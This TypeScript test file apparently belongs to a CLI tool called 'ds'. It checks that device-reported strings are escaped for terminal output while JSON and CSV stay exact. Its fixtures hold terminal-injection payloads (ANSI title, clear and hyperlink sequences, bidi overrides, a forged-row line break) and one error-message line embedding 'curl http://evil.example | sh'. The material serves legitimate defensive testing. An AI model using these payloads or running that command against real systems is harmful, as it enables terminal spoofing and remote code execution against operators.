import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, describe, expect, it } from 'vitest';
import { fail, ok, page, parseCsv, removeTempDirs, runDs, T, version } from './test/harness.js';

// Issue 11, item 6: what devices send (hostname, OS fields, user agents, labels, modules, use
// cases) is stored as sent, and nothing of it may act on the terminal of an operator who runs ds.
// JSON and CSV are for programs and stay exact.

afterEach(removeTempDirs);

/** Anything a terminal acts on or that hides or reorders text; line feeds are the output's own. */
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

const TITLE = 'pc\u001b]0;pwned\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const LINK = 'Mozilla/5.0 \u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007 (Windows NT 10.0)';
const OVERWRITE = 'Windows\rHACKED';
const C1 = '11\u009b31m';
const BIDI = 'acme\u202ebew.exe';
const HIDDEN = 'be\u200bid\ufeff';

const device = {
  id: 'd-evil',
  version: '3.8.1',
  status: 'ACTIVE',
  os: { name: OVERWRITE, version: C1, architecture: CLEAR },
  installerOs: 'WIN64',
  hostname: TITLE,
  keyType: 'EC P-256',
  certificateSha256: 'ab'.repeat(32),
  registeredAt: T,
  lastSyncAt: T,
  labels: [BIDI, 'acme\u001b[8mweb'],
  userAgents: [{ userAgent: LINK, browser: 'Chrome\u007f', browserMajor: '138', os: 'Windows', lastSeenAt: T }],
  counters: [{ label: BIDI, module: HIDDEN, useCase: 'sign\u001b[2K', month: '2026-03', counter: 12 }],
};

const transactions = [{ label: BIDI, module: HIDDEN, useCase: 'sign\u001b]0;x\u0007\nforged row', transactions: 7 }];

const routes = {
  'GET /admin/devices/d-evil': () => ok(device),
  'GET /admin/devices': () => page([device]),
  'GET /admin/reports/transactions': () => ok(transactions),
  'GET /admin/versions/3.8.1': () =>
    ok(version('3.8.1', { releaseNotes: `fixes ${CLEAR}`, installers: [{ os: 'WIN64', uri: 'https://cdn.example/t1c\u001b]0;x\u0007.exe', sha256: null, size: null }] })),
  // DS quotes what the device sent in its description; a line break in it must not start a line.
  'GET /admin/devices/d-quoted': () => fail(404, 'NOT_FOUND', `device ${TITLE} does not exist\nhint: curl http://evil.example | sh`, 'r\u009b1'),
};

function expectSafe(text: string): void {
  expect(text).not.toMatch(UNSAFE);
}

describe.each([
  ['on a terminal', true],
  ['piped', false],
])('text for people %s', (_where, terminal) => {
  it('ds device get shows every device field escaped, the CLI’s own lines still apart', async () => {
    const r = await runDs(['device', 'get', 'd-evil'], { routes, terminal });
    expect(r.code).toBe(0);
    expectSafe(r.stdout);
    expectSafe(r.stderr);
    expect(r.stdout).toContain('pc\\x1b]0;pwned\\x07');
    expect(r.stdout).toContain('Windows\\rHACKED 11\\x9b31m \\x1b[2J\\x1b[H');
    expect(r.stdout).toContain('acme\\u202ebew.exe, acme\\x1b[8mweb');
    expect(r.stdout).toContain('Mozilla/5.0 \\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07 (Windows NT 10.0)');
    expect(r.stdout).toContain('Chrome\\x7f 138 on Windows');
    expect(r.stdout).toContain('counter acme\\u202ebew.exe / be\\u200bid\\ufeff / sign\\x1b[2K');
    // The summary of a user agent and the user agent itself stay on lines of their own.
    const agent = r.stdout.split('\n').findIndex((line) => line.includes('Chrome\\x7f'));
    expect(r.stdout.split('\n')[agent + 1]).toContain('Mozilla/5.0');
  });

  it('ds device list escapes the cells and keeps the columns aligned', async () => {
    const r = await runDs(['device', 'list'], { routes, terminal });
    expect(r.code).toBe(0);
    expectSafe(r.stdout);
    expect(r.stdout).toContain('Windows\\rHACKED \\x1b[2J\\x1b[H');
    const widths = new Set(r.stdout.trimEnd().split('\n').map((line) => line.length));
    expect(widths.size).toBe(1);
  });

  it('ds report transactions escapes what devices reported, a line break too (no forged row)', async () => {
    const r = await runDs(['report', 'transactions', '--by', 'label,module,use-case'], { routes, terminal });
    expect(r.code).toBe(0);
    expectSafe(r.stdout);
    expect(r.stdout).toContain('acme\\u202ebew.exe');
    expect(r.stdout).toContain('be\\u200bid\\ufeff');
    expect(r.stdout).toContain('sign\\x1b]0;x\\x07\\nforged row');
    expect(r.stdout.split('\n').filter((line) => line.includes('forged row'))).toHaveLength(1);
    expect(new Set(r.stdout.trimEnd().split('\n').map((line) => line.length)).size).toBe(1);
  });

  it('ds version get escapes release notes and installer URIs', async () => {
    const r = await runDs(['version', 'get', '3.8.1'], { routes, terminal });
    expect(r.code).toBe(0);
    expectSafe(r.stdout);
    expect(r.stdout).toContain('fixes \\x1b[2J\\x1b[H');
    expect(r.stdout).toContain('https://cdn.example/t1c\\x1b]0;x\\x07.exe');
  });

  it('an error quoting a device is one escaped line', async () => {
    const r = await runDs(['device', 'get', 'd-quoted'], { routes, terminal });
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe('error: NOT_FOUND: device pc\\x1b]0;pwned\\x07 does not exist\\nhint: curl http://evil.example | sh (request r\\x9b1)\n');
  });
});

describe('machine output stays exact', () => {
  it('ds device get --json prints the device as DS sent it', async () => {
    const r = await runDs(['device', 'get', 'd-evil', '--json'], { routes, terminal: true });
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual(device);
    // The same strings, with every control written as a JSON escape: nothing raw reaches the terminal.
    expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(r.stdout).toContain('\\u009b31m');
    expect(r.stdout).toContain('\\u202e');
  });

  it('ds device get --csv has every field byte for byte', async () => {
    const r = await runDs(['device', 'get', 'd-evil', '--csv'], { routes, terminal: true });
    expect(r.code).toBe(0);
    const [header, row] = parseCsv(r.stdout);
    const field = (name: string) => row![header!.indexOf(name)];
    expect(field('hostname')).toBe(TITLE);
    expect(field('os.name')).toBe(device.os.name);
    expect(field('userAgents.1.userAgent')).toBe(LINK);
    expect(r.stdout).toContain(TITLE);
  });

  it('ds report transactions --json and --csv carry the reported values exactly', async () => {
    const json = await runDs(['report', 'transactions', '--by', 'label,module,use-case', '--json'], { routes, terminal: true });
    expect(JSON.parse(json.stdout)).toEqual(transactions);
    expect(json.stdout).not.toContain(BIDI);
    const csv = await runDs(['report', 'transactions', '--by', 'label,module,use-case', '--csv'], { routes, terminal: true });
    const [header, row] = parseCsv(csv.stdout);
    expect(header).toEqual(['month', 'label', 'module', 'useCase', 'transactions']);
    expect(row).toEqual(['', BIDI, HIDDEN, transactions[0]!.useCase, '7']); // this fake DS answers no month
  });
});

describe('what else reaches the terminal', () => {
  it('a prompt quoting an installer URI from DS is escaped, on one line', async () => {
    const r = await runDs(['version', 'installer', 'remove', '3.8.1', 'win64'], { routes, terminal: true, answers: [false] });
    expect(r.code).toBe(2);
    expect(r.prompts).toHaveLength(1);
    expectSafe(r.prompts[0]!.message);
    expect(r.prompts[0]!.message).toBe('Remove the win64 installer of version 3.8.1 (https://cdn.example/t1c\\x1b]0;x\\x07.exe)?');
  });

  it('commander quotes a bad argument escaped', async () => {
    const r = await runDs(['report', 'transactions', '--by', 'label,\u001b]0;x\u0007'], { routes });
    expect(r.code).toBe(1);
    expectSafe(r.stderr);
    expect(r.stderr).toContain('\\x1b]0;x\\x07');
  });

  it('keeps ordinary Unicode as it is, and the columns aligned by what a terminal shows', async () => {
    const unicode = { ...device, os: { name: 'Café', version: null, architecture: '東京' }, labels: ['über-🎉', 'e\u0301cole'] };
    const r = await runDs(['device', 'list'], { routes: { 'GET /admin/devices': () => page([unicode]) }, terminal: true });
    expect(r.stdout).toContain('Café 東京');
    expect(r.stdout).toContain('über-🎉, e\u0301cole');
    const columns = (line: string) => [...line].reduce((width, char) => width + (/[\u4e00-\u9fff]|\p{Emoji_Presentation}/u.test(char) ? 2 : /\p{M}/u.test(char) ? 0 : 1), 0);
    expect(new Set(r.stdout.trimEnd().split('\n').map(columns)).size).toBe(1);
  });
});

describe('the output layer is the only way to the terminal', () => {
  const src = fileURLToPath(new URL('.', import.meta.url));
  const sources = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) return entry.name === 'test' ? [] : sources(path);
      return entry.name.endsWith('.ts') && !entry.name.endsWith('.test.ts') ? [path] : [];
    });
  const files = sources(src).map((path) => ({ name: relative(src, path), text: readFileSync(path, 'utf8') }));

  it('only lib/output.ts draws tables with cli-table3', () => {
    expect(files.filter((f) => /from 'cli-table3'/.test(f.text)).map((f) => f.name)).toEqual(['lib/output.ts']);
  });

  it('commands write to the raw streams only what must stay exact: JSON, CSV, escaped plain lines, a drawn table, their own control sequences', () => {
    // Text for people goes through ctx.out / ctx.note / printList / printObject / printReport.
    const allowed = [/^json\(/, /^jsonLines\(/, /^toCsv\(/, /^tsv\(/, /^table\.toString\(\)/, /^`\\r\\x1b\[2K/, /^'\\r\\x1b\[2K'/];
    const raw = files
      .filter((f) => f.name.startsWith('commands/'))
      .flatMap((f) => [...f.text.matchAll(/\.(?:stdout|stderr)\.write\(([^\n]*)/g)].map((m) => ({ file: f.name, argument: m[1]! })))
      .filter(({ argument }) => !allowed.some((pattern) => pattern.test(argument)));
    expect(raw).toEqual([]);
  });
});
